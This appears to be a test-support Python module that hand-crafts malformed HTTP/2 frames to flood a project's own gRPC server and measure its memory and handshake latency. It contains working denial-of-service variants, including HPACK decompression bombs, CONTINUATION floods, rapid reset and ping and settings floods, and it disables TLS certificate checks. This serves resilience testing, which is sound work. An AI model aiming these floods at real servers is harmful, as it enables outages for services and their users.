"""Abuse of HTTP/2 against a served peer: variants drawn by seed, and a program that plays them and measures.

    python -m tests.support.http2_abuse '{"host": …, "port": …, "server": …, "run": …, "pid": …, …}'

It writes HTTP/2 frames by hand over TLS, because libraries would refuse to send invalid ones. See `Job` for its
argument. For each play it prints one line of JSON: a `Played`."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import itertools
import json
import logging
import random
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

from peer.identity import Identity, public_key_of
from peer.protocol.messages import WIRE_VERSION, PeerId, RunId
from peer.transport.calls.hello import HELLO_DOMAIN, proof_message
from peer.v1 import exchange_pb2 as pb
from tests.support.hostile_client import HostileCaller, Refused

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
ACK, END_STREAM, END_HEADERS, PADDED, PRIORITIZED = 0x1, 0x1, 0x4, 0x8, 0x20
HELLO_S = 30.0
"""Seconds after which an honest Hello counts as failed."""
CHUNK = 2**14


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def integer(value: int, bits: int, first: int) -> bytes:
    """Return an integer in HPACK (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    value, out = value - most, [first | most]
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """Return a header field as a literal."""
    sized = integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value
    return (b"\x40" if indexed else b"\x00") + sized


def request(method: str = "Hello") -> bytes:
    """Return the header block of a gRPC call."""
    fields = {":method": "POST", ":scheme": "https", ":path": f"/peer.v1.Exchange/{method}", ":authority": "peer"} | {
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(literal(name.encode(), value.encode()) for name, value in fields.items())


def message(body: bytes) -> bytes:
    """Return a gRPC message."""
    return struct.pack(">BI", 0, len(body)) + body


Flood = Iterator[bytes]


@dataclass(frozen=True)
class Variant:
    """One way to abuse a connection. `flood`: yields bytes to send without end, with choices drawn from a random
    generator.

    `acks`: whether the client acknowledges the server's SETTINGS. `reads`: whether it reads. `greets`: whether it sends
    the HTTP/2 preface. `pause_s`: seconds between two pieces."""

    name: str
    flood: Callable[[random.Random], Flood]
    acks: bool = True
    reads: bool = True
    greets: bool = True
    pause_s: float = 0.0


def _streams() -> Iterator[int]:
    return itertools.count(101, 2)


def _bomb(rng: random.Random) -> Flood:
    """Send header blocks that refer to one long entry of the decoder's table many times."""
    size, times, ends = rng.choice([100, 1000, 3900]), rng.choice([50, 500, 4000]), rng.choice([0, END_STREAM])
    block = request() + literal(b"x-long", size * b"x", indexed=True) + times * b"\xbe"
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS | ends, stream, block)


def _table_updates(rng: random.Random) -> Flood:
    times, size = rng.choice([10, 4000]), rng.choice([0, 4096])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, times * integer(size, 5, 0x20) + request())


def _many_fields(rng: random.Random) -> Flood:
    """Send header blocks of one-byte fields, each of which refers to the static table."""
    times = rng.choice([1000, 16000])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, times * rng.choice([b"\x82", b"\x8f"]))


def _long_headers(rng: random.Random) -> Flood:
    size = rng.choice([4000, 7000, 15000])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, request() + literal(b"x-long", size * b"x"))


def _continuation(rng: random.Random) -> Flood:
    piece = rng.choice([b"", b"\x00", literal(b"x", 1000 * b"x"), 16000 * b"\x82"])
    yield frame(HEADERS, 0, 101, request())
    while True:
        yield frame(CONTINUATION, 0, 101, piece) * max(1, min(64, 4096 // (len(piece) + 9)))


def _continued_bombs(rng: random.Random) -> Flood:
    """Send the blocks of `_bomb` split into several frames."""
    half = request() + literal(b"x-long", 3900 * b"x", indexed=True)
    for stream in _streams():
        yield frame(HEADERS, 0, stream, half) + frame(CONTINUATION, END_HEADERS, stream, 4000 * b"\xbe")


def _rapid_reset(rng: random.Random) -> Flood:
    code = rng.choice([0, 8])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, request()) + frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def _open_calls(rng: random.Random) -> Flood:
    method = rng.choice(["Hello", "Swap", "Nothing", "Discard"])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, request(method))


def _ended_calls(rng: random.Random) -> Flood:
    """Send complete calls, each of which the server refuses with trailers."""
    method = rng.choice(["Hello", "Offer", "Nothing"])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, request(method)) + frame(DATA, END_STREAM, stream, message(b""))


def _empty_data(rng: random.Random) -> Flood:
    yield frame(HEADERS, END_HEADERS, 101, request(rng.choice(["Hello", "Swap"])))
    while True:
        yield frame(DATA, 0, 101) * rng.choice([1, 400])


def _tiny_data(rng: random.Random) -> Flood:
    yield frame(HEADERS, END_HEADERS, 101, request(rng.choice(["Hello", "Swap"])))
    yield frame(DATA, 0, 101, struct.pack(">BI", 0, 2**19))
    while True:
        yield frame(DATA, 0, 101, b"x") * rng.choice([1, 400])


def _data(rng: random.Random) -> Flood:
    """Send payload for a call that was not admitted, on one stream or on many."""
    size, many, method = rng.choice([1000, CHUNK]), rng.random() < 0.5, rng.choice(["Hello", "Swap", "Discard"])
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, request(method))
        yield frame(DATA, 0, stream, struct.pack(">BI", 0, 2**19 if size == CHUNK else 2**31))
        for _ in itertools.count() if not many else range(4):
            yield frame(DATA, 0, stream, size * b"x")


def _messages(rng: random.Random) -> Flood:
    """Send empty messages, many in each frame."""
    yield frame(HEADERS, END_HEADERS, 101, request(rng.choice(["Hello", "Swap"])))
    while True:
        yield frame(DATA, 0, 101, 3000 * message(b""))


def _padded(rng: random.Random) -> Flood:
    yield frame(HEADERS, END_HEADERS | PADDED, 101, b"\xff" + request() + 255 * b"\x00")
    while True:
        yield frame(DATA, PADDED, 101, b"\xff" + 255 * b"\x00") * 16


def _windows(rng: random.Random) -> Flood:
    stream, step = rng.choice([0, 101]), rng.choice([1, 1, 0, 2**31 - 1])
    yield frame(HEADERS, END_HEADERS, 101, request())
    while True:
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", step)) * 100


def _pings(rng: random.Random) -> Flood:
    times = rng.choice([1, 100])
    while True:
        yield frame(PING, 0, 0, rng.randbytes(8)) * times


def _settings(rng: random.Random) -> Flood:
    kind, value = rng.choice([(1, 0), (1, 4096), (3, 100), (4, 0), (4, 2**31 - 1), (6, 2**20)])
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", kind, value)) * 10


def _small_window(rng: random.Random) -> Flood:
    """Open calls with a stream window of 0, so that no answer can be sent."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    yield from _ended_calls(rng)


def _acks(rng: random.Random) -> Flood:
    while True:
        yield frame(SETTINGS, ACK, 0) * 100 + frame(PING, ACK, 0, 8 * b"x") * 100


def _priorities(rng: random.Random) -> Flood:
    for stream in _streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", stream - 2, 1)) * rng.choice([1, 100])


def _unknown(rng: random.Random) -> Flood:
    kind, size = rng.choice([10, 77, 255]), rng.choice([0, 100, CHUNK])
    while True:
        yield frame(kind, rng.randrange(256), rng.choice([0, 101]), size * b"x")


def _goaways(rng: random.Random) -> Flood:
    while True:
        yield frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + rng.choice([0, 500]) * b"x") * 10


def _promises(rng: random.Random) -> Flood:
    yield frame(HEADERS, END_HEADERS, 101, request())
    for stream in itertools.count(2, 2):
        yield frame(PUSH_PROMISE, END_HEADERS, 101, struct.pack(">I", stream) + request())


def _half_frame(rng: random.Random) -> Flood:
    yield struct.pack(">I", rng.choice([2**14, 2**24 - 1]))[1:] + struct.pack(">BBI", rng.choice([0, 1, 77]), 0, 101)
    while True:
        yield rng.choice([1, 1000]) * b"x"


def _byte_by_byte(rng: random.Random) -> Flood:
    for stream in _streams():
        for one in frame(HEADERS, END_HEADERS, stream, request()) + frame(DATA, END_STREAM, stream, message(b"x")):
            yield bytes([one])


def _trailers(rng: random.Random) -> Flood:
    """Send further header blocks on one stream."""
    yield frame(HEADERS, END_HEADERS, 101, request())
    while True:
        yield frame(HEADERS, END_HEADERS | rng.choice([0, END_STREAM]), 101, literal(b"x", 3000 * b"x"))


def _same_stream(rng: random.Random) -> Flood:
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, rng.choice([1, 2, 101, 2**31 - 1]), request())


def _garbage(rng: random.Random) -> Flood:
    while True:
        yield rng.randbytes(rng.choice([1, 100, CHUNK]))


def _shuffled(rng: random.Random) -> Flood:
    """Send well-formed frames in random order on random streams."""
    block = request()
    while True:
        kind, stream = rng.randrange(12), rng.choice([0, 1, 101, 103])
        body = {HEADERS: block, SETTINGS: struct.pack(">HI", 3, 100), PING: bytes(8), RST_STREAM: bytes(4)} | {
            WINDOW_UPDATE: b"\0\0\0\1",
            PRIORITY: bytes(5),
            CONTINUATION: block,
            DATA: message(b"x"),
        }
        yield frame(kind, rng.choice([0, 1, 4, 5]), stream, body.get(kind, b""))


def _nothing(rng: random.Random) -> Flood:
    while True:
        yield b""


FLOODS = (
    _bomb,
    _table_updates,
    _many_fields,
    _long_headers,
    _continuation,
    _continued_bombs,
    _rapid_reset,
    _open_calls,
    _ended_calls,
    _empty_data,
    _tiny_data,
    _data,
    _messages,
    _padded,
    _windows,
    _pings,
    _settings,
    _small_window,
    _acks,
    _priorities,
    _unknown,
    _goaways,
    _promises,
    _half_frame,
    _byte_by_byte,
    _trailers,
    _same_stream,
    _garbage,
    _shuffled,
    _nothing,
)
WORST = (
    Variant("bomb, no ack", _bomb, acks=False),
    Variant("continuation, no ack", _continuation, acks=False),
    Variant("data", _data),
    Variant("pings, unread", _pings, reads=False),
)


def drawn(seed: int, count: int) -> list[Variant]:
    """Return `count` variants: first the worst known ones, then each flood once, then random ones."""
    rng = random.Random(seed)
    floods = [*rng.sample(FLOODS, len(FLOODS)), *rng.choices(FLOODS, k=max(0, count))]
    made = list(WORST)
    for number, flood in enumerate(floods):
        acks, reads, greets = rng.random() < 0.6, rng.random() < 0.6, rng.random() < 0.95
        words = [
            flood.__name__.strip("_"),
            *["no ack"] * (not acks),
            *["unread"] * (not reads),
            *["bare"] * (not greets),
        ]
        pause_s = rng.choice([0.0, 0.0, 0.0, 0.05])
        made.append(Variant(f"{', '.join(words)} #{number}", flood, acks, reads, greets, pause_s))
    return made[:count]


@dataclass(frozen=True, kw_only=True)
class Job:
    """The settings of a play. `pid`: the served process, whose memory is measured. Each variant is played with every
    number of `connections` and of address `blocks`; local addresses are taken from `sources`. `honest`: local address
    of the honest caller; empty: any."""

    host: str
    port: int
    server: str
    run: str
    pid: int
    seed: int
    variants: int
    connections: list[int] = field(default_factory=lambda: [1, 40])
    blocks: list[int] = field(default_factory=lambda: [1])
    sources: list[str] = field(default_factory=list)
    proofs: list[bool] = field(default_factory=lambda: [False, True])
    seconds: float = 4.0
    bytes_per_s: float = 2e6
    names: list[str] = field(default_factory=list)
    """Prefixes of the names of variants to play. Empty: all."""


@dataclass(frozen=True, kw_only=True)
class Played:
    """The result of a play. Memory in MiB: before, peak, and after. `hellos`: seconds of each honest Hello."""

    variant: str
    seed: int
    proven: bool
    connections: int
    blocks: int
    before: float
    most: float
    after: float
    hellos: list[float]
    opened: int
    sent: int


@functools.cache
def anybody() -> ssl.SSLContext:
    """Return a TLS context that accepts every certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


class Attacker:
    """One connection that plays a variant. `rate`: bytes per second of it."""

    def __init__(self, job: Job, variant: Variant, number: int, source: str, rate: float, *, proven: bool) -> None:
        self._job = job
        self._variant = variant
        self._rng = random.Random(f"{job.seed} {variant.name} {number}")
        self._source = source
        self._rate = rate
        self._proven = proven
        self.opened = False
        self.sent = 0

    async def play(self, until: float) -> None:
        """Open one connection at a time, and a new one whenever it ends, until `until` (`time.monotonic`)."""
        while time.monotonic() < until:
            with contextlib.suppress(OSError, EOFError, asyncio.TimeoutError, ssl.SSLError):
                async with asyncio.timeout(until - time.monotonic()):
                    await self._once(until)
            await asyncio.sleep(0.2)

    async def _once(self, until: float) -> None:
        local = (self._source, 0) if self._source else None
        reader, writer = await asyncio.open_connection(
            self._job.host, self._job.port, ssl=anybody(), server_hostname="peer", local_addr=local
        )
        reading: asyncio.Task[None] | None = None
        try:
            self.opened = True
            variant = self._variant
            if variant.greets or self._proven:
                writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**24)))
            if (variant.acks and variant.greets) or self._proven:
                await _frame_of(reader, SETTINGS)
                writer.write(frame(SETTINGS, ACK, 0))
            if self._proven:
                await self._prove(reader, writer)
            if variant.reads:
                reading = asyncio.create_task(_read(reader))
            else:
                writer.transport.pause_reading()  # type: ignore[attr-defined]
            for piece in variant.flood(self._rng):
                if time.monotonic() >= until or writer.is_closing():
                    break
                writer.write(piece)
                self.sent += len(piece)
                await writer.drain()
                await asyncio.sleep(max(variant.pause_s, len(piece) / self._rate, 0.0005))
        finally:
            if reading is not None:
                reading.cancel()
            writer.transport.abort()

    async def _prove(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Prove a fresh key over this connection."""
        key, run = Identity.generate(), bytes.fromhex(self._job.run)
        opening = pb.HelloOpen(
            run_id=run, wire_min=WIRE_VERSION, wire_max=WIRE_VERSION, public_key=key.public_key, clock=time.time()
        )
        writer.write(frame(HEADERS, END_HEADERS, 1, request()))
        writer.write(frame(DATA, 0, 1, message(pb.HelloRequest(open=opening).SerializeToString())))
        challenge = pb.HelloReply.FromString((await _frame_of(reader, DATA))[5:]).challenge
        signed = proof_message(run, public_key_of(self._job.server), challenge.nonce)
        proof = pb.HelloProof(signature=key.sign(HELLO_DOMAIN, signed))
        writer.write(frame(DATA, END_STREAM, 1, message(pb.HelloRequest(proof=proof).SerializeToString())))
        assert pb.HelloReply.FromString((await _frame_of(reader, DATA))[5:]).granted.token


async def _frame_of(reader: asyncio.StreamReader, kind: int) -> bytes:
    """Read up to the next frame of this kind and return its body. Skips empty frames and acknowledgements."""
    while True:
        header = await reader.readexactly(9)
        body = await reader.readexactly(int.from_bytes(header[:3], "big"))
        if header[3] == kind and (body or (kind == SETTINGS and not header[4] & ACK)):
            return body


async def _read(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(2**16):
            pass


def resident(pid: int) -> float:
    """Return the resident memory of a process in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


async def hello(job: Job) -> float:
    """Do a Hello as an honest newcomer does. Return the seconds it took; `HELLO_S`: it failed."""
    began = time.monotonic()
    endpoint = f"{job.host}:{job.port}"
    while (left_s := began + HELLO_S - time.monotonic()) > 0:
        try:
            async with (
                asyncio.timeout(left_s),
                HostileCaller(endpoint, PeerId(job.server), RunId(bytes.fromhex(job.run))) as caller,
            ):
                await caller.hello()
                return time.monotonic() - began
        except (Refused, TimeoutError):
            await asyncio.sleep(0.1)
    return HELLO_S


async def play(job: Job, variant: Variant, connections: int, blocks: int, *, proven: bool) -> Played:
    """Play one variant, and measure the served process."""
    sources = job.sources[:blocks] or [""]
    rate = job.bytes_per_s / connections
    attackers = [
        Attacker(job, variant, number, sources[number % len(sources)], rate, proven=proven)
        for number in range(connections)
    ]
    before = most = resident(job.pid)
    until = time.monotonic() + job.seconds
    playing = [asyncio.create_task(attacker.play(until)) for attacker in attackers]
    hellos: list[float] = []

    async def look() -> None:
        nonlocal most
        while True:
            most = max(most, resident(job.pid))
            await asyncio.sleep(0.1)

    looking = asyncio.create_task(look())
    await asyncio.sleep(1.0)
    while time.monotonic() < until:
        hellos.append(await hello(job))
        await asyncio.sleep(0.5)
    await asyncio.gather(*playing, return_exceptions=True)
    hellos.append(await hello(job))
    looking.cancel()
    return Played(
        variant=variant.name,
        seed=job.seed,
        proven=proven,
        connections=connections,
        blocks=blocks,
        before=round(before, 1),
        most=round(most, 1),
        after=round(resident(job.pid), 1),
        hellos=[round(seconds, 2) for seconds in hellos],
        opened=sum(attacker.opened for attacker in attackers),
        sent=sum(attacker.sent for attacker in attackers),
    )


async def main(job: Job) -> None:
    for variant in drawn(job.seed, job.variants):
        if job.names and not variant.name.startswith(tuple(job.names)):
            continue
        for proven, connections, blocks in itertools.product(job.proofs, job.connections, job.blocks):
            if (proven and not variant.greets) or (connections == 1 and blocks > 1):
                continue
            played = await play(job, variant, connections, blocks, proven=proven)
            print(json.dumps(asdict(played)), flush=True)


if __name__ == "__main__":
    logging.getLogger("asyncio").setLevel(logging.ERROR)  # it warns at every piece for a connection that was ended
    asyncio.run(main(Job(**json.loads(sys.argv[1]))))
